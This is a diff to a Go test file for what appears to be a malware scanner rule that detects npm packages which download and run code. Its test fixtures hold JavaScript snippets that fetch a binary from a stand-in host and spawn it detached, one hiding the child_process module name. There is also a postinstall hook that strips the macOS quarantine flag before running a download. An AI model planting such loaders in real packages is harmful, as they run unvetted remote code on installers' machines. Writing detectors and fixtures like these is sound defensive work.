@@ -18,6 +18,11 @@ execFileSync(binPath, ["--version"])`
 
 func TestDownloadExecute(t *testing.T) {
 	rt.Check(t, DownloadExecute{}, []rt.Case{
+		// the process module's name built at run time
+		{"hidden_child_process", map[string]string{"index.js": `const res = await fetch("https://cdn.example.invalid/validator"); await require("fs/promises").writeFile(t, new Uint8Array(await res.arrayBuffer()));
+const cp = await import(["node", "child", "process"].join(":").replace(/:(?=process)/, "_")); cp.spawn(t, ["--daemon"], { detached: true, stdio: "ignore" })`}, finding.SeverityCritical},
+		{"named_child_process", map[string]string{"index.js": `const res = await fetch("https://cdn.example.invalid/validator"); await require("fs/promises").writeFile(t, new Uint8Array(await res.arrayBuffer()));
+const cp = await import("node:child_process"); cp.spawn(t, ["--version"])`}, finding.SeverityMedium},
 		// the quarantine flag stripped from an unknown host's download
 		{"strips_quarantine_at_install", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": `const fs=require("fs"),https=require("https"),{execSync}=require("child_process"); https.get("https://x.example.invalid/bin/helper", r => { const o = fs.createWriteStream("/tmp/.h"); r.pipe(o); o.on("finish", () => { execSync("xattr -d com.apple.quarantine /tmp/.h"); execSync("chmod +x /tmp/.h"); execSync("/tmp/.h") }) })`}, finding.SeverityCritical},
